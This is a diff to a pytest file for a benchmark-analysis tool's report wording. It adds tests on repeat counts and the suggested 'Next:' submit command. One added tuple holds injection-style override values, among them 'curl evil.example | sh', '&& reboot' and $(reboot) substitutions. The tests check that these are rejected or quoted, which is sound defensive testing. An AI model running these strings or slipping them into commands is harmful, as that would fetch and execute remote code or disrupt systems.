@@ -10,16 +10,17 @@ import polars as pl
 import pytest
 
 from analysis import load, text
-from analysis.claims import judge
+from analysis.claims import Publication, judge
 from analysis.comparison.configurations import summary
 from analysis.metrics.runs import computation_per_communication
 from analysis.report import answers, page, warnings
-from analysis.report.claims import at_a_glance, shown, summed_up, table
+from analysis.report.claims import at_a_glance, judged, shown, summed_up, table
 from analysis.report.page import _measured, matrix
 from analysis.runs.reader import Runs
 from parallelbench.results.folder import ASKED
 from tests.analysis.factory import MIB, Fake, config, failed, published, steady
-from tests.analysis.made_up import IN_TWO, altered, environment
+from tests.analysis.made_up import IN_TWO, SPEED_UP, altered, environment, slower
+from tests.analysis.made_up import WOBBLE as MADE_UP
 from tests.analysis.test_claims import REPEATS, WOBBLE, claim
 from tests.analysis.test_metrics import powered
 from tests.analysis.test_two_frameworks import measured
@@ -102,13 +103,40 @@ def test_ties_with_the_fastest_are_named_and_one_device_is_where_all_are_slower(
     told = answers.headline(load(tmp_path))
     assert told[0] == "One device is fastest."
     assert told[1].startswith("ddp × 4 trains an epoch 0.67 times")
-    assert told[1].endswith(" Not told apart from it: fsdp × 4.")
+    assert told[1].endswith(" Not told apart from ddp × 4: fsdp × 4.")
     plant(tmp_path, times, batch_size=64)
     told = answers.headline(load(tmp_path))
     assert told[0] == "One device is fastest in all 2 kinds of work."
     assert told[2].startswith("Nearest to one device: ddp × 4 (")
-    assert told[2].endswith(" Not told apart from it: fsdp × 4.")
+    assert told[2].endswith(" Not told apart from ddp × 4: fsdp × 4.")
     assert told[3].startswith("Smallest speed-up: ")
+
+
+def test_one_device_of_another_strategy_is_told_with_its_repeats_once(tmp_path: Path) -> None:
+    for repeat in REPEATS:
+        for place, strategy in enumerate(("single", "ddp")):
+            at = Fake.started_at + 1e4 * repeat + 1e3 * place
+            published(config(tmp_path, strategy=strategy, repeat=repeat), steady(10.0 + repeat / 100, started_at=at))
+    assert answers.headline(load(tmp_path))[0].count("6 repeats") == 1
+
+
+@pytest.mark.parametrize(("below", "is_more"), [(1.04, True), (1.1, False)])
+def test_the_next_command_is_for_claims_too_and_says_what_fewer_repeats_decide(
+    below: float, is_more: bool, usual: Runs, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Nearly equal times: the nearer a claim's bound is to them, the more repeats it needs."""
+    noise = (1.08, 0.96, 1.03, 0.98, 1.06, 0.97)
+    runs = slower(usual, *(SPEED_UP / w * n for w, n in zip(MADE_UP, noise, strict=True)))
+    own = Publication(seed="002", title="its own", claims=[claim(expect={"below": below})])
+    monkeypatch.setattr("analysis.claims.publications", lambda: (own,))
+    (judgement,), (_, row) = judged(runs), summary(runs).to_dicts()
+    of_claim, of_comparison = judgement.repeats or 0, row["repeats_to_decide"]
+    assert (of_claim > of_comparison) == is_more, "else the test shows nothing"
+    enough = f" (sweep.repeats={of_comparison} may be enough)" if is_more else ""
+    assert answers.next_steps(runs)[0].endswith(
+        f"`sweep.repeats={max(of_claim, of_comparison)}`. "
+        f"That may decide 1 comparison with one device{enough} and 1 claim."
+    )
 
 
 def test_two_repeats_are_too_few_to_call_one_device_the_fastest_and_tell_nothing_apart(tmp_path: Path) -> None:
@@ -118,7 +146,7 @@ def test_two_repeats_are_too_few_to_call_one_device_the_fastest_and_tell_nothing
             published(run, steady(time_s * WOBBLE[repeat]))
     told = answers.headline(load(tmp_path))
     assert told[0] == "So far one device is fastest, with too few repeats to be sure."
-    assert told[1].endswith(" Too few repeats to tell it from fsdp × 2.")
+    assert told[1].endswith(" Too few repeats to tell ddp × 2 from fsdp × 2.")
     assert told[-1].endswith("`sweep.repeats=6`. That may decide 2 comparisons with one device.")
     published(config(tmp_path, repeat=5, strategy="zero1", devices=2), steady(0.5))  # whose repeat one device lacks
     told = answers.headline(load(tmp_path))
@@ -294,7 +322,7 @@ def test_what_was_measured_apart_is_not_said_to_be_untold_and_one_pasted_command
     runs = measure(REPEATS, apart=True)
     told = answers.headline(runs)
     assert set(summary(runs)["verdict"]) == {"baseline", "not interleaved"}
-    assert "Not tested against it, as measured apart from it: fsdp × 2." in told[0]
+    assert "Not tested against ddp × 2, as measured apart from it: fsdp × 2." in told[0]
     assert not any("Not told apart" in line for line in told)
     turns = "One submit measures all sides of the new repeats in turn."
     why = "That may decide 2 comparisons with one device."
@@ -317,6 +345,13 @@ def test_no_submit_of_several_sweeps_decides_what_was_measured_apart(tmp_path: P
     assert answers.headline(runs)[-1].endswith(" That may decide 1 comparison with one device.")
 
 
+_NO_OVERRIDES = (
+    *("sweep=demo; curl evil.example | sh #", "sweep=demo devices=1 && reboot", "sweep=demo 'devices=1\x1b[2J'"),
+    *("sweep=demo 'a=`reboot`'", "sweep='demo", "--out=/ sweep=demo"),
+)
+"""What somebody else's folder may say."""
+
+
 @pytest.mark.parametrize(
     ("sweep", "first", "rest", "command"),
     [
@@ -330,8 +365,16 @@ def test_no_submit_of_several_sweeps_decides_what_was_measured_apart(tmp_path: P
         ("adhoc", "strategy=single", "strategy=ddp", ""),
         ("adhoc", "strategy=single,ddp", "", ""),
         ("adhoc", "", "", ""),
+        *[("demo", words, words, "") for words in _NO_OVERRIDES],
+        ("demo", "'sweep=demo;reboot'", "'sweep=demo;reboot'", "'sweep=demo;reboot' sweep.repeats=6"),
+        ("demo", "sweep=demo;reboot", "sweep=demo;reboot", "'sweep=demo;reboot' sweep.repeats=6"),
+        ("demo", "sweep=$(reboot)", "sweep=$(reboot)", "'sweep=$(reboot)' sweep.repeats=6"),
     ],
-    ids=["lists", "own", "two commands", "partly recorded", "not recorded"],
+    ids=[
+        *("lists", "own", "two commands", "partly recorded", "not recorded"),
+        *(f"no overrides {place}" for place in range(len(_NO_OVERRIDES))),
+        *("quoted", "semicolon", "substitution"),
+    ],
 )
 def test_the_command_is_that_which_all_runs_recorded(
     sweep: str, first: str, rest: str, command: str, tmp_path: Path
@@ -343,7 +386,7 @@ def test_the_command_is_that_which_all_runs_recorded(
         lines = [f"strategy={strategy}", *([f"{ASKED}{asked}"] if asked else [])]
         (folder.path / "overrides.txt").write_text("\n".join(lines), encoding="utf-8")
     line = answers.headline(load(tmp_path))[-1]
-    own = ", with its --conf and --plugin" if sweep == "own" else ""
+    own = ", with its --conf and --plugin" if sweep == "own" or "reboot" in command else ""
     asks = f"`parallelbench submit {command}`{own}." if command else "submit the sweep again with `sweep.repeats=6`."
     assert line.startswith(f"Next: {asks}")
 
